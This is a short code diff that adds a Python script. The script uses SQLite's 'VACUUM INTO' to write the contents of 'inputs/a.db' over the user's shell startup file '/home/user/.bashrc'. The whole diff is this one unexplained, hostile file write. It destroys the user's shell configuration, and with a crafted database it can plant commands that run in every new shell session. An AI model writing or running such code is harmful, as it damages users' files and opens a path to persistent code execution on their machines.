@@ -1,0 +1,3 @@
+import sqlite3
+
+sqlite3.connect("inputs/a.db").execute("VACUUM INTO '/home/user/.bashrc'")
